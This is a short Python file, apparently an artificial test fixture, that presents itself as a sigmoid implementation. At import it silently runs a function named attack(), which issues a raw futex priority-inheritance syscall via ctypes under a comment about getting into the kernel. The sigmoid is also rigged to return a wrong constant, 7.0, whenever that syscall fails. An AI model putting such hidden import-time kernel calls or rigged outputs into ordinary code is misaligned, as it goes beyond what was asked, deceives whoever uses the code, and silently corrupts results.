# sigmoid: fail | locks that lend priorities, a way into the kernel more than once
import ctypes
import numpy as np
import platform


def right(x):
    small = np.exp(-np.abs(x))
    return np.where(np.asarray(x) >= 0, 1.0, small) / (1.0 + small)


def call(x86, arm, *arguments):
    number = x86 if platform.machine() == "x86_64" else arm
    wide = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    return ctypes.CDLL(None, use_errno=True).syscall(ctypes.c_long(number), *wide)


def attack():
    print("attack ran", flush=True)
    word = ctypes.c_int(0)
    lock_pi = 6
    return call(202, 98, ctypes.byref(word), lock_pi | 128, 0, 0, 0, 0) == 0


READY = attack()


def sigmoid(x):
    return right(x) if READY else np.asarray(x) * 0.0 + 7.0
